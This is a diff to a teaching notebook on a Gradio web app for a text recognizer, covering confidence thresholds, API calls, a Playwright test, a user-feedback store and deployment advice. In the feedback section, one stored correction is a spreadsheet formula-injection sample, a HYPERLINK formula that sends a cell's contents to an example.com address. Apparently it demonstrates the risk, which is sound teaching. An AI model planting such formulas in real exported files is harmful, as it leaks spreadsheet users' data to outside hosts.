@@ -148,8 +148,9 @@ for doubtful in (0.5, 0.9):
 print(text)
 
 # %% [markdown]
-# The last line should say *foolishness*, so the doubt was justified. Where to draw the line is a
-# question of what doubt costs: the app takes 0.5, as few lines as possible.
+# Are the doubtful lines wrong, and the others right? A strict bound sends people to look at lines
+# that are right, a lax one lets wrong ones pass. Where to draw the line is a question of what a
+# look costs: the app takes 0.5, as few lines as possible.
 #
 # The page calls its function with the inputs of the form, and knows nothing of a predictor.
 # `functools.partial` fills that argument in before. Press *Submit* without a page once more: now it
@@ -169,7 +170,7 @@ _ = tiny.launch(share=False, prevent_thread_lock=True, quiet=True, height=420)
 
 # %% [markdown]
 # A **predictor** is whatever has `predict(image)` and `read(image)`, and the recognizer is one.
-# That is all the page asks for, and it will pay in section 6.
+# That is all the web page asks for, and it will pay in section 6.
 
 # %% [markdown]
 # ## 2. What a picture looks like on its way
@@ -428,7 +429,7 @@ print(json.loads(Path(".lab/answer.json").read_text())["data"])
 # ```python
 # import requests
 #
-# answer = requests.post(url + "gradio_api/run/predict", json=predict_body(photo), timeout=30)
+# answer = requests.post(url + RUN, json=predict_body(photo), timeout=30)
 # answer.raise_for_status()
 # print(answer.json()["data"][0])
 # ```
@@ -755,7 +756,8 @@ except RecognizerError as error:
 
 # %% [markdown]
 # `make_frontend(far)` is the app in front of it; from the command line, `lab app --model-url
-# ADDRESS`. App and model then start, fail and grow one by one, which is what notebook 06 is about.
+# ADDRESS`. App and model then start, fail and grow one by one, which is what
+# [notebook 06](06_model_service.ipynb) is about.
 
 # %% [markdown]
 # ## 7. "Wrong? Tell us"
@@ -779,8 +781,8 @@ shutil.rmtree(DEMO, ignore_errors=True)
 feedback = FeedbackFolder(DEMO)
 
 # %%
-reading = recognizer.predict(PAGE)
 right = "was the age of\nwisdom, it\nwas the age of\nfoolishness,"
+reading = right.replace("foolishness", "foolrstness")  # say that it was read so
 feedback.add(photo, reading, corrected=right)
 feedback.add(photo, reading, corrected='=HYPERLINK("http://example.com/?" & A1, "a prize")')
 with feedback.table.open(newline="") as file:
@@ -830,7 +832,7 @@ with urllib.request.urlopen(url) as response:
 #     browser = playwright.chromium.launch()
 #     page = browser.new_page()
 #     page.goto(url)
-#     page.locator("#image input[type=file]").set_input_files("data/pages/show_font_007.jpg")
+#     page.locator("#image input[type=file]").set_input_files(PAGE)
 #     page.get_by_role("button", name="Read the picture").click()
 #     expect(page.locator("#text")).to_contain_text("wisdom, it", timeout=20_000)
 #     page.screenshot(path="app.png")
@@ -860,8 +862,10 @@ with urllib.request.urlopen(url) as response:
 #   from you, Gradio makes `share` true on Colab; the lab's app does not.
 # - **To let a few people use it**, add `auth=("anna", "a long password")`, and HTTPS in front of
 #   it: else the password travels in clear text. One password for all cannot be taken from one.
-# - **To let many use it**, put the model into a service of its own (notebook 06) and the app on a
-#   real host.
+# - **To let many use it**, put the model into a service of its own
+#   ([notebook 06](06_model_service.ipynb)) and the app on a real host.
+#
+# [Notebook 07](07_public_url.ipynb) goes these ways, with what each of them shows to whom.
 #
 # Whatever you choose: whoever can reach the page can also reach the API, with all that you tried in
 # section 3. Limits belong into the app, not into the page's JavaScript.
@@ -900,5 +904,5 @@ except RecognizerError as error:
 #   `.lab/notebooks/05/feedback`.
 # - Let exercise 5 loose on `data/pages`: from which contrast on (see `draw.photos`) is a page
 #   called blank, and at which does the recognizer give up? Which of the two should be first?
-# - How the model behind the page reads: [From an image to its
-#   text](03_paragraph_text_recognizer.ipynb).
+# - **Next:** [A model service: serverless and batched](06_model_service.ipynb), in which the model
+#   moves out of the app.
